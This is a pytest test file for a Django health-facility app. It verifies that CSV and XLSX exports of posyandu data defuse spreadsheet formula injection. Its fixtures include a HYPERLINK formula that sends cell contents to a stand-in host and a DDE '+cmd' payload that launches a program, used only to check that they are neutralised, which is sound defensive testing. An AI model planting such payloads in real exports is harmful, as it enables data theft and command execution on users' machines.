"""Exports never carry a live formula: CSV text cells that a spreadsheet would run get a leading quote (OWASP,
"CSV Injection"); XLSX writes every text as a string cell. Numbers stay numbers, negative ones included."""

from __future__ import annotations

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from binasehat.core.cells import csv_cell
from binasehat.facilities.models import Posyandu

HOSTILE = '=HYPERLINK("http://contoh.invalid/?x="&A1,"klik")'


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    (HOSTILE, "'" + HOSTILE),
    # data, not formulas: written as they are
    ("Posyandu Melati", "Posyandu Melati"),
    ("19.03.01.2008", "19.03.01.2008"),
    ("-3", "-3"),
    ("-2.5", "-2.5"),
    ("+62", "+62"),
    (-3, -3),
    (-2.5, -2.5),
    ("", ""),
    (None, None),
])
def test_finding_5_csv_cell_quotes_only_text_that_a_spreadsheet_would_run(value, expected):
    assert csv_cell(value) == expected


def _csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig") if response.streaming else \
        response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def hostile_posyandu(demo):
    p = Posyandu.objects.filter(desa__code__startswith="19.03.").order_by("code").first()
    Posyandu.objects.filter(pk=p.pk).update(name=HOSTILE, address="+cmd|' /C calc'!A0")
    return Posyandu.objects.get(pk=p.pk)


def test_finding_5_csv_formula_injection_in_list_export(hostile_posyandu, client_for):
    response = client_for("dinkes").get(reverse("facilities:posyandu_list") + "?format=csv&q=HYPERLINK")
    assert response.status_code == 200
    header, *rows = _csv_rows(response)
    row = dict(zip(header, rows[0]))
    assert row["name"] == "'" + HOSTILE
    assert row["address"] == "'+cmd|' /C calc'!A0"
    assert row["code"] == hostile_posyandu.code  # ordinary text untouched


def test_finding_5_xlsx_list_export_writes_text_as_strings(hostile_posyandu, client_for):
    response = client_for("dinkes").get(reverse("facilities:posyandu_list") + "?format=xlsx&q=HYPERLINK")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("name") + 1)
    assert cell.data_type == "s" and cell.value == HOSTILE
    address = sheet.cell(row=2, column=header.index("address") + 1)
    assert address.data_type == "s" and address.value == "+cmd|' /C calc'!A0"


def test_finding_5_pokjanal_xlsx_writes_posyandu_name_as_string(hostile_posyandu, client_for):
    url = reverse("reports:pokjanal") + f"?tahun=2025&wilayah={hostile_posyandu.desa_id}&format=xlsx"
    response = client_for("dinkes").get(url)
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE]
    assert cells, "the posyandu's name is in the recap"
    assert all(c.data_type == "s" for c in cells)
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_finding_5_posyandu_assess_csv_quotes_a_formula_name(hostile_posyandu):
    out = io.StringIO()
    call_command("posyandu_assess", "--year", "2025", "--area", hostile_posyandu.desa_id, stdout=out)
    row = next(r for r in csv.DictReader(io.StringIO(out.getvalue())) if r["code"] == hostile_posyandu.code)
    assert row["name"] == "'" + HOSTILE


def test_finding_5_dhis2_csv_quotes_a_formula_comment_but_not_a_negative_value():
    from binasehat.programs.dhis2 import as_csv

    text = as_csv([{"dataElement": "TB_X", "period": "202501", "orgUnit": "19.03.01", "value": "-3",
                    "storedBy": "@admin", "lastUpdated": dt.datetime(2025, 1, 1).isoformat(), "comment": "=1+1"}])
    header, row = list(csv.reader(io.StringIO(text)))
    record = dict(zip(header, row))
    assert record["value"] == "-3"
    assert record["comment"] == "'=1+1"
    assert record["storedby"] == "'@admin"
